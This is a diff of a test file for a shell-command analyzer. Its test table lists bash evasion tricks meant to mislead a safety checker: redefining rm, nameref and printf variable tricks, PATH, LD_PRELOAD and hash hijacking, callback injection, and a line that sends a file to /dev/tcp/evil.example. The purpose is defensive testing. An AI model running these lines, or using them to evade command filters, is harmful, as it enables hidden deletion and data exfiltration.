@@ -72,6 +72,20 @@ describe('a shell line', () => {
     ['a start file for children', 'BASH_ENV=x bash -c ls'],
     ['a new PATH', 'PATH=/tmp/evil:$PATH; ls'],
     ['a library put in front', 'LD_PRELOAD=x ls'],
+    ['a function that may not be defined', 'false && rm() { :; }; rm x'],
+    ['a function that is forgotten', 'rm() { :; }; unset -f rm; rm x'],
+    ['a name that may not be assigned', 'false && X=ls; $X'],
+    ['a name with another name', 'X=ls; declare -n R=X; R=rm; $X y'],
+    ['a name that is set by printf', 'X=ls; printf -v "$N" rm; $X y'],
+    ['a table of commands', 'BASH_CMDS[ls]=/tmp/evil; ls'],
+    ['a remembered path', 'hash -p /tmp/evil ls; ls'],
+    ['a completion', "compgen -W '$(rm x)'"],
+    ['a callback', "mapfile -C 'rm x' -c 1 A < y"],
+    ['a part of a sed script', 'sed "s/a/$X/" y'],
+    ['a part of an awk program', 'awk "{ print $X }" y'],
+    ['a part of an operation', 'aws ssm get-$X'],
+    ['a part of a kind', 'kubectl get "pods,$X"'],
+    ['an output format', 'kubectl get pods -o "$X"'],
     ['an alias', "alias ls='rm x'; ls"],
     ['text that does not parse', 'if then'],
     ['a carriage return', 'echo a\rrm x'],
@@ -79,8 +93,16 @@ describe('a shell line', () => {
     ['an address of the network', 'cat x > /dev/tcp/evil.example/80'],
   ])('%s is not understood', async (_, text) => {
     const understanding = await line(text);
-    expect(understanding.opaque).toBe(true);
-    expect(effects(understanding)).toContain('unknown');
+    expect(onlyReads(understanding)).toBe(false);
+    if (!effects(understanding).includes('destroy')) expect(effects(understanding)).toContain('unknown');
+  });
+
+  test('a directory is only certain behind the cd that worked', async () => {
+    const { actions } = await line('cd /srv; rm x');
+    expect(actions.at(-1)?.resource).toEqual({ kind: 'file' });
+    const files = { ...filesOf({ '/srv': '' }) };
+    const known = await line('cd /srv; rm x', { files });
+    expect(known.actions.at(-1)?.resource).toEqual({ kind: 'file', path: '/srv/x' });
   });
 
   test('a redirection names its file, in the directory the line went to', async () => {
